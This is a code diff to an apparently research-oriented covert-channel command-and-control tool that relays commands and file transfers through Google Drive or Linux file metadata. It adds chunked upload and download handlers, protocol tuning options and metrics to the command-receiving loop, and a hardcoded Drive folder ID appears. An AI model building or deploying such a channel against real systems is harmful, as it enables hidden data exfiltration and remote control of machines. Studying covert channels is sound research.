@@ -6,12 +6,16 @@ from src.mediums.drive_filesystem import GoogleDriveFilesystem
 from src.protocol.hash_protocol import HashProtocol
 from src.protocol.metadata_protocol import MetadataProtocol
 
+from src.metrics import metrics, JsonSink, METRICS_ENV
 from src.utils import decode_base64, encode_base64
+from src.transfer import handle_partsize, handle_prefixcrc, handle_upload_chunk, handle_download_chunk
 
 # default_linux_path = "/home/futureleader/Research/hash_cc/fileshare/"
 default_linux_path = "/home/futureleader/Research/metasploit-framework/fileshare/"
 default_creds = "creds/credentials.json"
 default_folder_id = "1KBwGwewMn74HOKVTZrZup3ewc-Lv_cAV"
+# bytes of a received command echoed to the terminal
+COMMAND_PREVIEW = 80
 
 
 def select_filesystem():
@@ -29,7 +33,9 @@ def select_filesystem():
     else:
         path = input(f"Enter mounted Linux path (default: {default_linux_path}): ").strip(
         ) or default_linux_path
-        fs = LinuxFileSystem(path)
+        # both ends must agree, the ruby client uses one xattr per property
+        packed = input("Packed xattrs? (y/N): ").strip().lower() == "y"
+        fs = LinuxFileSystem(path, packed_xattrs=packed)
     return fs
 
 
@@ -39,11 +45,29 @@ def select_protocol(fs):
     print("  2) Metadata protocol")
     choice = input("Choice (default Metadata): ").strip() or "1"
 
+    window = int(input("Batches in flight (default 1): ").strip() or "1")
+    # both ends must agree, the ruby client only speaks the unframed format
+    framing = input("Binary framing? (y/N): ").strip().lower() == "y"
+    compression = framing and input("Compress messages? (y/N): ").strip().lower() == "y"
+    # both ends must agree on this too
+    segments = int(framing and input("Tagged segments per batch (default 1): ").strip() or "1")
+    parity = int(segments > 1 and input("Parity segments (default 0): ").strip() or "0")
+    workers = int(input("Parallel file workers (default 1): ").strip() or "1")
+    # both ends must agree, the metasploit module never uses epochs
+    epochs = input("Epoch repartitioning? (y/N): ").strip().lower() == "y"
+    options = {"window": window, "framing": framing, "compression": compression,
+               "workers": workers, "segments": segments, "parity": parity, "epochs": epochs}
+
     if choice == "2":
-        return MetadataProtocol(fs)
+        # a layout stored with the share is always used, this only probes one
+        probe = input("Probe property layout? (y/N, r to re-probe): ").strip().lower()
+        if probe in ("y", "r"):
+            fs.tune_properties(refresh=probe == "r")
+        return MetadataProtocol(fs, **options)
     
     else:
-        return HashProtocol(fs)
+        bytes_per_file = int(input("Bytes per file (1-4, default 1): ").strip() or "1")
+        return HashProtocol(fs, bytes_per_file=bytes_per_file, **options)
 
 
 fs = select_filesystem()
@@ -94,14 +118,19 @@ def run_shell():
 
 
 if __name__ == "__main__":
+    if os.environ.get(METRICS_ENV):
+        metrics.set_sink(JsonSink(os.environ[METRICS_ENV]))
     cc.connect()
 
     while True:
         # parse input
         line = cc.read()
         # get the first arg
-        cmd = line.decode().strip().split(' ', 1)[0]
-        print(f"\nRECEIVED COMMAND: {cmd} ({line})")
+        # only the command word is decoded, framed uploads carry raw bytes
+        cmd = line.strip().split(b' ', 1)[0].decode(errors='replace')
+        # upload chunks carry up to 64 KiB of data, only show their start
+        shown = line[:COMMAND_PREVIEW] + b'...' if len(line) > COMMAND_PREVIEW else line
+        print(f"\nRECEIVED COMMAND: {cmd} ({shown})")
         out = b'no output.'
 
         # QUIT COMMAND
@@ -139,9 +168,28 @@ if __name__ == "__main__":
             cmd, filename = line.split(b' ', 1)
             out = download_file(filename)
 
+        # CHUNKED TRANSFER COMMANDS (see src/transfer.py)
+        elif cmd == "partsize":
+            cmd, filename = line.split(b' ', 1)
+            out = handle_partsize(filename)
+
+        elif cmd == "prefixcrc":
+            cmd, size, filename = line.split(b' ', 2)
+            out = handle_prefixcrc(size, filename)
+
+        elif cmd == "upload_chunk":
+            header, _, filedata = line.partition(b'\n')
+            cmd, offset, total, filename = header.split(b' ', 3)
+            out = handle_upload_chunk(offset, total, filename, filedata, cc.framing)
+
+        elif cmd == "download_chunk":
+            cmd, offset, size, filename = line.split(b' ', 3)
+            out = handle_download_chunk(offset, size, filename, cc.framing)
+
         # SHELL COMMAND
         elif cmd == "shell":
             # not implemented
             pass
 
         cc.write(out)
+        metrics.flush()